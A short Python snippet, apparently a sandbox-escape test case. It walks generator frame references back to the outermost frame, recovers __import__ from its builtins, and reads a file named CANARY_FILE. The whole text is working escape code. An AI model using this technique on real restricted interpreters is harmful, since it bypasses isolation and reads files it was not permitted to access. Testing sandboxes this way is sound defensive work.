# Goes back from a generator.
def numbers():
    yield frame_of[0].gi_frame.f_back
frame_of = []
made = numbers()
frame_of.append(made)
frame = next(made)
while frame.f_back:
    frame = frame.f_back
out = frame.f_builtins['__import__']
print(out('builtins').open('CANARY_FILE').read())
